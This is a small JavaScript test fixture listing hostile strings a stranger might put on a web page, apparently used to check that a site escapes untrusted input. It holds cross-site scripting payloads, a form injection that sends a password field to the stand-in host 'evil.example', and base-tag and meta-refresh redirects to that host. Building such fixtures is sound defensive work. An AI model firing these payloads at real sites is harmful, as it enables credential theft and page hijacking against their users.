/** What a stranger may try to put on a page. One that works sets `pwned` or opens a dialog. */
export const hostileTexts = [
  '<script>pwned = 1</script>',
  '"><img src=x onerror=pwned=1>',
  `' autofocus onfocus=pwned=1 x='`,
  '" autofocus onfocus=alert(1) x="',
  '<svg/onload=alert(1)>',
  '</strong></main><form action=//evil.example><input name=password>',
  '</style><style>* { display: none }</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  'javascript:pwned=1//',
  '<!--',
  ']]>-->&lt;script&gt;',
  '\u202e gnol dna desrever',
  'W'.repeat(190),
];
